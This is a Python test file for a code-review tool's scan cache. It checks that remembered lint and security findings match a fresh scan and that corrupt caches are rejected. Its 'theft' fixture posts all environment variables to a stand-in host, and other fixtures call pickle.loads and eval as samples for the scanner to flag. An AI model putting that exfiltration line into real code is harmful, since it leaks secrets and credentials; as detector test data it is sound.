"""A review that remembers what tools said of a file says the same as one that reads everything."""

from __future__ import annotations

import json
import shutil
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from devforge.adapters.semgrep import RULES
from devforge.model.observed import Missing, SourceFile, SourceTree
from devforge.review.examine import observe_static
from devforge.review.materialise import materialise
from devforge.review.scans import (
    LIMIT_BYTES,
    load_scans,
    read_scans,
    remember,
    remembered,
    save_scans,
    tools_digest,
)

BODIES = {
    "theft": b"import os, requests\nrequests.post('https://x.example', data=dict(os.environ))\n",
    "pickle": b"import pickle\npickle.loads(b'')\n",
    "mistake": b"print(nobody)\n",
    "broken": b"def f(:\n",
    "clean": b"x = 1\n",
    "script": b"export const f = (x) => eval(x + 1);\n",
    "wrong script": b"export const f = (\n",
}
NAMES = ("a.py", "b.py", "deep/c.pyw", "d.js", "e.ts", "README.md")


def tree_of(**files: bytes) -> SourceTree:
    named = {name.replace("__", "."): body for name, body in files.items()}
    return SourceTree({p: SourceFile(p, "file", c) for p, c in named.items()})


def looked_at(tree: SourceTree, scratch: Path, scans=None):
    """Observe in a new directory, and return what was seen and what is to be remembered of it."""
    directory = scratch / str(len(list(scratch.iterdir())))
    seen = observe_static(tree, scratch=directory, scans=scans)
    return seen, remember(tree, seen.lint, seen.security, tools=tools_digest())


@settings(max_examples=12, suppress_health_check=list(HealthCheck))
@given(
    before=st.dictionaries(st.sampled_from(NAMES), st.sampled_from(sorted(BODIES))),
    after=st.dictionaries(st.sampled_from(NAMES), st.sampled_from(sorted(BODIES))),
)
def test_with_a_memory_the_answer_is_the_same(tmp_path_factory, before, after):
    scratch = tmp_path_factory.mktemp("scans")
    trees = [
        SourceTree({p: SourceFile(p, "file", BODIES[b]) for p, b in sorted(files.items())})
        for files in (before, after)
    ]
    _, scans = looked_at(trees[0], scratch)

    assert looked_at(trees[1], scratch, scans) == looked_at(trees[1], scratch)


def test_only_what_changed_is_shown_to_the_tools(tmp_path):
    old = tree_of(a__py=BODIES["theft"], b__py=BODIES["pickle"])
    new = tree_of(a__py=BODIES["theft"], moved__py=BODIES["pickle"], new__py=BODIES["clean"])
    _, scans = looked_at(old, tmp_path)

    shown = materialise(new, tmp_path / "shown", without=remembered(scans, new))

    assert list(shown.paths.values()) == ["new.py"]


def test_where_nothing_changed_no_tool_is_started(tmp_path, monkeypatch):
    tree = tree_of(a__py=BODIES["theft"], d__js=BODIES["script"])
    seen, scans = looked_at(tree, tmp_path)
    monkeypatch.setenv("PATH", "/nowhere")
    monkeypatch.setattr("sys.executable", "/nowhere/python")

    assert looked_at(tree, tmp_path, scans)[0] == seen


def test_a_changed_rule_is_another_tool(tmp_path):
    shutil.copytree(RULES, tmp_path / "rules")
    before = tools_digest(tmp_path / "rules")
    rule = next((tmp_path / "rules").rglob("*.yaml"))
    rule.write_text(rule.read_text() + "# another word\n")
    tools_digest.cache_clear()

    assert tools_digest(tmp_path / "rules") != before


@pytest.mark.parametrize(
    "spoilt",
    [
        None,
        b"",
        b"{",
        b"[]",
        b'{"schema_version": 1, "tools": "x", "files": {}}',
        b" " * (LIMIT_BYTES + 1),
        b'{"a":' * 100_000,
    ],
    ids=["absent", "empty", "cut off", "a list", "odd", "too large", "too deep"],
)
def test_a_memory_that_cannot_be_read_is_none(spoilt):
    assert read_scans(spoilt) is None


def test_a_memory_of_other_tools_is_none(tmp_path):
    _, scans = looked_at(tree_of(a__py=BODIES["theft"]), tmp_path)
    said = json.loads(scans.model_dump_json())

    assert read_scans(json.dumps(said).encode()) == scans
    assert read_scans(json.dumps(said | {"tools": "0" * 64}).encode()) is None


def test_what_was_not_read_whole_is_not_remembered(tmp_path):
    deep = b"x = " + b"(" * 2000 + b"1" + b")" * 2000 + b"\n"
    tree = tree_of(a__py=deep, b__py=BODIES["clean"])
    _, scans = looked_at(tree, tmp_path)

    assert list(remembered(scans, tree)) == ["b.py"]


def test_where_a_tool_was_silent_nothing_is_remembered():
    silent = Missing(reason="it broke")

    assert remember(tree_of(), silent, (), tools=tools_digest()) is None
    assert remember(tree_of(), (), silent, tools=tools_digest()) is None


def test_a_mode_that_makes_no_code_of_a_file_is_seen(tmp_path):
    tree = tree_of(a__py=BODIES["theft"])
    _, scans = looked_at(tree, tmp_path)
    link = SourceTree({"a.py": replace(tree.files["a.py"], mode="symlink")})

    assert remembered(scans, link) == {}


def test_a_file_of_memory_is_whole_or_not_there(tmp_path):
    _, scans = looked_at(tree_of(a__py=BODIES["theft"]), tmp_path)
    path = tmp_path / "cache" / "x.json"

    save_scans(path, scans)
    save_scans(path, scans)

    assert load_scans(path) == scans
    assert [kept.name for kept in path.parent.iterdir()] == ["x.json"]
    assert load_scans(tmp_path / "nowhere.json") is None
